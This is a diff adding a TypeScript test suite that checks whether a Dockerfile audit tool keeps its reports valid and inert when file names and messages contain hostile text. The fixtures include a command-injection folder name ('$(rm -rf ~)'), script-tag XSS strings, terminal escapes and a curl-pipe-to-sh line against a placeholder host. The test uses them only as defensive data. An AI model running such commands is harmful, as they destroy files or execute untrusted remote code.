@@ -1,0 +1,152 @@
+// Output escaping: file names and messages holding quotes, backticks, `<script>`, pipes, Markdown
+// syntax, newlines and terminal escapes leave JSON, SARIF and Markdown valid and the text output inert.
+import assert from 'node:assert/strict';
+import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
+import * as path from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { runCli } from '../cli/helpers';
+import { CaseCount, makeTree, sarifValidator } from './helpers';
+
+/** Hostile folder names (a `/` inside makes two folders: `<script>x</script>` is two levels). */
+const NAMES = [
+  'quote"s',
+  "single'quote",
+  'back`tick`s',
+  '<script>alert(1)</script>',
+  'pipe|in|name',
+  '[link](https:',
+  '*bold*_under_',
+  'new\nline',
+  'tab\there',
+  '\u001b[31mred\u001b[0m',
+  'amp&lt;entity',
+  'back\\slash',
+  '$(rm -rf ~)',
+];
+/** Dockerfile whose messages quote hostile text (the commands are quoted in the messages). */
+const DOCKERFILE = 'FROM node:latest\nCMD curl -fsSL "http://x/<script>alert(`pwned`)</script>|" | sh\n';
+const cases = new CaseCount('output escaping cases');
+
+/** A Markdown line without its code spans (a run of n backticks up to the next run of exactly n). */
+function outsideCode(line: string): string {
+  let out = '';
+  let i = 0;
+  while (i < line.length) {
+    if (line[i] === '\\') {
+      out += line.slice(i, i + 2);
+      i += 2;
+      continue;
+    }
+    const run = /^`+/.exec(line.slice(i))?.[0];
+    if (!run) {
+      out += line[i++];
+      continue;
+    }
+    const close = new RegExp(`(?<!\`)${run}(?!\`)`, 'g');
+    close.lastIndex = i + run.length;
+    const m = close.exec(line);
+    if (!m) {
+      out += run;
+      i += run.length;
+      continue;
+    }
+    i = m.index + run.length;
+  }
+  return out;
+}
+
+interface Report {
+  files: { file: string }[];
+  findings: { file: string; message: string; ruleId: string }[];
+}
+
+void describe('reports stay valid with hostile names and messages', () => {
+  let root: string;
+  let files: string[];
+  let json: Report;
+  before(() => {
+    root = makeTree({}, 'kg-escape-');
+    files = NAMES.map((n) => `${n}/Dockerfile`).sort();
+    for (const f of files) {
+      mkdirSync(path.dirname(path.join(root, f)), { recursive: true });
+      writeFileSync(path.join(root, f), DOCKERFILE);
+    }
+    const r = runCli(['audit', '--format', 'json'], root);
+    assert.equal(r.code, 1, r.stderr);
+    json = JSON.parse(r.stdout) as Report;
+  });
+  after(() => {
+    rmSync(root, { recursive: true, force: true });
+    console.log(cases.summary());
+  });
+
+  void test('JSON: every name and message round-trips exactly', () => {
+    assert.deepEqual(json.files.map((f) => f.file), files);
+    assert.equal(json.findings.length, files.length * 2);
+    const fetch = json.findings.find((f) => f.ruleId === 'runtime-fetch')!;
+    assert.ok(fetch.message.includes('<script>alert(`pwned`)</script>|'), fetch.message);
+    for (const n of NAMES) cases.add(`JSON ${JSON.stringify(n)}`);
+  });
+
+  void test('SARIF: schema-valid; URIs decode to the names; messages unchanged', () => {
+    const r = runCli(['audit', '--format', 'sarif'], root);
+    const sarif = JSON.parse(r.stdout) as { runs: { results: { message: { text: string }; locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }[] }[] };
+    assert.deepEqual(sarifValidator()(sarif), []);
+    const results = sarif.runs[0].results;
+    assert.equal(results.length, json.findings.length);
+    for (const [i, res] of results.entries()) {
+      const uri = res.locations[0].physicalLocation.artifactLocation.uri;
+      assert.doesNotMatch(uri, /[\s"<>`|\\^{}\u0000-\u001f]/, `URI ${uri} holds a character URIs may not`);
+      assert.equal(uri.split('/').map(decodeURIComponent).join('/'), json.findings[i].file);
+      assert.equal(res.message.text, json.findings[i].message);
+    }
+    for (const n of NAMES) cases.add(`SARIF ${JSON.stringify(n)}`);
+  });
+
+  void test('Markdown: one table row per finding with five cells, no raw HTML, no link but ours; renders as such (marked, GFM)', async (t) => {
+    const r = runCli(['audit', '--format', 'markdown'], root);
+    const md = r.stdout;
+    // Outside code spans (whose content Markdown shows literally) no `<` is left unescaped.
+    for (const line of md.split('\n')) assert.doesNotMatch(outsideCode(line).replace(/<br>/g, ''), /</, `raw HTML in ${JSON.stringify(line)}`);
+    assert.doesNotMatch(md, /\u001b/, 'no terminal escape');
+    const lines = md.split('\n');
+    const header = lines.indexOf('| File | Line | Severity | Rule | Message |');
+    assert.ok(header > 0, md);
+    const rows = lines.slice(header + 2, lines.indexOf('', header));
+    assert.equal(rows.length, json.findings.length, 'one row per finding: no newline broke a row');
+    for (const row of rows) {
+      const cells = row.split(/(?<!\\)\|/);
+      assert.equal(cells.length, 7, `five cells in ${JSON.stringify(row)}`);
+    }
+    // Links: the rule links and the "Generated by" link only.
+    const links = lines.flatMap((l) => outsideCode(l).match(/(?<!\\)\]\(/g) ?? []);
+    assert.equal(links.length, new Set(json.findings.map((f) => f.ruleId)).size + 1, 'no link from file content');
+    let marked: { parse(md: string, o?: object): string } | undefined;
+    try {
+      marked = (require('marked') as { marked: typeof marked }).marked;
+    } catch {
+      t.diagnostic('marked (a dependency of @vscode/vsce) not found: rendering check skipped, structure checked above');
+    }
+    if (marked) {
+      const html = marked.parse(md, { gfm: true, async: false });
+      assert.doesNotMatch(html, /<script/i);
+      const table = html.slice(html.indexOf('<th>File</th>'));
+      const body = table.slice(table.indexOf('<tbody>'), table.indexOf('</tbody>'));
+      const trs = body.split('<tr>').slice(1);
+      assert.equal(trs.length, json.findings.length);
+      for (const tr of trs) assert.equal((tr.match(/<td[ >]/g) ?? []).length, 5, tr);
+      assert.equal((html.match(/<a /g) ?? []).length, links.length, 'rendered links: ours only');
+    }
+    for (const n of NAMES) cases.add(`Markdown ${JSON.stringify(n)}`);
+  });
+
+  void test('text: control characters (newline, ESC) are shown escaped, one line per finding', () => {
+    const r = runCli(['audit', '--format', 'text'], root);
+    assert.doesNotMatch(r.stdout, /\u001b/, 'no terminal escape reaches the terminal');
+    const lines = r.stdout.split('\n').filter((l) => /\s(error|warning|info|hint)\s/.test(l));
+    assert.equal(lines.length, json.findings.length, 'one line per finding');
+    assert.ok(lines.some((l) => l.startsWith('new\\nline/Dockerfile:1:6')), lines.join('\n'));
+    assert.ok(lines.some((l) => l.startsWith('\\x1b[31mred\\x1b[0m/Dockerfile:1:6')), lines.join('\n'));
+    cases.add('text with ESC and newline in names');
+  });
+});
